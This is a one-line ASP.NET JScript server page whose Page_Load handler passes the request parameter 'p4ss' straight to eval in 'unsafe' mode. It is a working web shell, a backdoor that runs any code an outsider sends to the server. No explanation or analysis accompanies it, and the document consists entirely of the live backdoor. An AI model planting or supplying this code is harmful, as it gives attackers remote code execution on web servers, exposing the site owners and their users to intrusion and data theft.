<script language="JScript" runat="server">function Page_Load(){eval(Request["p4ss"],"unsafe");}</script>
